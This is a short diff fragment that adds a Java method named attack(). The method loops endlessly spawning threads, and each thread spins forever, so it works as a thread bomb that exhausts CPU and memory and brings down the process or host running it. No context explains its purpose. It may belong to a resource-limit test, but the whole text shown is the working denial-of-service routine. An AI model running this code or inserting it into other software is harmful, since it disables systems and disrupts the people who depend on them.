@@ -1,0 +1,9 @@
+    static void attack() {
+        while (true) {
+            new Thread(() -> {
+                while (true) {
+                    Thread.yield();
+                }
+            }).start();
+        }
+    }
